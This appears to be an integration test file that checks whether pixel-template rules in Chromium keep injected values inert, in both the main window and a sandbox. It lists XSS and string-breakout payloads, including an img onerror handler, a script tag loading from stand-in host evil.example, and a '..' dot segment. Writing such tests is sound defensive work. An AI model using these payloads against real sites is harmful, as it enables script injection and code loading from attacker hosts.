// The faults the pixel rules close, in real Chromium, in the main window and in the sandbox:
// markup written from a script string, regular expressions and divisions, a block comment
// hiding `-->`, and a dot segment in a pixel address. Each pixel saves (the rules accept it) and
// runs with values that try to run code or reach evil.example: the sentinel `__pwned` is never
// set in any frame, evil.example (routed to the test's server, like the partner) receives
// nothing, and the partner receives the value as data. The positions the rules refuse outright
// (a script's host, stylesheet addresses, a regular expression, code right after `a++ /'/;x='`)
// are refused at save time: tests/integration/pixels_rules.test.mjs.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { pollUntil } from '../harness/poll.mjs';
import { openPage, pixelConnector, sentinelSet, siteContainer, startPixelBrowsing } from '../harness/pixel_browser.mjs';

const HOSTS = ['aff.example', 'partner.example', 'evil.example'];
let site;
let browser;

before(async () => {
  ({ site, browser } = await startPixelBrowsing(HOSTS));
});

after(async () => {
  await browser?.close();
  await site?.close();
});

const P = 'window.__pwned=1';
const EVIL = [
  `"><img src=https://evil.example/x.gif onerror=${P}>`,
  `'><script src=https://evil.example/x.js></script>`,
  `';${P};x='`,
  `;${P};//`,
  `\`;${P};\``,
  `*/${P}/*`,
  `\n-->\n${P}`,
  '..',
];

/** Save and approve `html`, fire one event per hostile value, and let every pixel run. */
async function runPixel(html, sandbox) {
  const container = await siteContainer(site);
  await pixelConnector(container, { sandbox, html });
  const since = site.requests.length;
  const { context, page, seen } = await openPage(browser, site, container.id);
  try {
    const answers = await page.evaluate(async (values) => {
      const out = [];
      for (const value of values) out.push(await window.postclick.track('Purchase', { attributes: { campaign_name: value, order_id: value } }));
      return out;
    }, EVIL);
    assert.ok(answers.every((a) => a.pixels.length === 1), 'every event fired the pixel');
    await pollUntil(async () => seen.inflight === 0 && page.frames().length >= (sandbox ? EVIL.length + 1 : 1),
      { what: 'the pixels\' requests', timeoutMs: 20_000 });
    await pollUntil(async () => seen.inflight === 0, { what: 'the last requests', timeoutMs: 20_000 });
    assert.equal(await sentinelSet(page), null, 'no value ran code in any frame');
    assert.deepEqual(seen.dialogs, []);
    const requests = site.requests.slice(since);
    assert.deepEqual(requests.filter((r) => r.host === 'evil.example').map((r) => r.url), [], 'evil.example received nothing');
    return { requests };
  } finally {
    await context.close();
  }
}

for (const sandbox of [false, true]) {
  const where = sandbox ? 'the sandbox' : 'the main window';

  test(`markup written from a script string carries a value only as data, in ${where}`, async () => {
    // document.write would wipe a loaded page, so the main window writes with insertAdjacentHTML.
    const write = sandbox
      ? `document.write('<img src="https://aff.example/px?c={{CAMPAIGN_NAME}}" alt="">')`
      : `document.body.insertAdjacentHTML('beforeend', '<img src="https://aff.example/px?c={{CAMPAIGN_NAME}}" alt="">')`;
    const { requests } = await runPixel(`<script>${write}</script>`, sandbox);
    const got = requests.filter((r) => r.host === 'aff.example').map((r) => new URL(r.url, 'https://x').searchParams.get('c'));
    const expected = EVIL.map((v) => (sandbox ? v : v.replace(/[<>]/g, '')));
    assert.deepEqual(got.sort(), expected.sort(), 'the partner received each value whole');
  });

  test(`a division and a regular expression are read as the browser reads them, in ${where}`, async () => {
    // `a++ /` divides and `if (a) {} /'/` starts a regular expression: the value stays in its string.
    const { requests } = await runPixel("<script>var a = 1, x; a++ / 2; if (a) {} /'/.test('q'); x = '{{CAMPAIGN_NAME}}'; "
      + "new Image().src = 'https://partner.example/seen?x=' + encodeURIComponent(x);</script>", sandbox);
    const seen = requests.filter((r) => r.host === 'partner.example').map((r) => new URL(r.url, 'https://x').searchParams.get('x'));
    const expected = EVIL.map((v) => (sandbox ? v : v.replace(/[<>]/g, '')));
    assert.deepEqual(seen.sort(), expected.sort(), 'the script ran once per value, holding it as a string');
  });

  test(`a block comment with a line break before --> and a backtick leaves the value in its string, in ${where}`, async () => {
    const { requests } = await runPixel("<script>/*\n*/--> `\nvar x = '{{CAMPAIGN_NAME}}'; new Image().src = 'https://partner.example/seen?x=' + encodeURIComponent(x);</script>", sandbox);
    const seen = requests.filter((r) => r.host === 'partner.example').map((r) => new URL(r.url, 'https://x').searchParams.get('x'));
    assert.equal(seen.length, EVIL.length, 'the script ran once per value');
  });

  test(`a dot-segment value in a pixel address renders empty, in ${where}`, async () => {
    const { requests } = await runPixel('<img src="https://partner.example/pb/{{ORDER_ID}}/confirm" alt="">', sandbox);
    const paths = requests.filter((r) => r.host === 'partner.example').map((r) => new URL(r.url, 'https://x').pathname);
    assert.ok(paths.includes('/pb//confirm'), 'the .. value rendered empty');
    assert.ok(paths.every((p) => p.startsWith('/pb/') && p.endsWith('/confirm')), `no request left /pb/: ${paths}`);
  });
}
